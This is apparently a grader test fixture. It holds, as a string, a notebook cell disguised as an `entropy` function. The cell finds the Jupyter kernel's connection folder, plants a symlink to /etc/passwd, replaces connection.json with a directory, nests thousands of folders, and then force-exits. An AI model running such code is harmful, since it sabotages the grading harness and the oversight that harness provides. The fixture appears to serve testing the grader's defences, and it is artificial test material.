"""Leave folders, deep nests and links where the grader keeps its sockets, then die."""

CAUSE = ("wrote beside the kernel's own sockets",)
CELL = r"""
import os
from pathlib import Path

def entropy(p, base=2.0):
    folder = Path(get_ipython().kernel.config["IPKernelApp"]["connection_file"]).parent
    for place in (folder, folder.parent, folder.parent.parent):
        try:
            (place / "link").symlink_to("/etc/passwd")
            (place / "connection.json").unlink(missing_ok=True)
            (place / "connection.json").mkdir()
            os.chdir(place / "connection.json")
            for _ in range(3000):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            continue
    os._exit(0)
"""
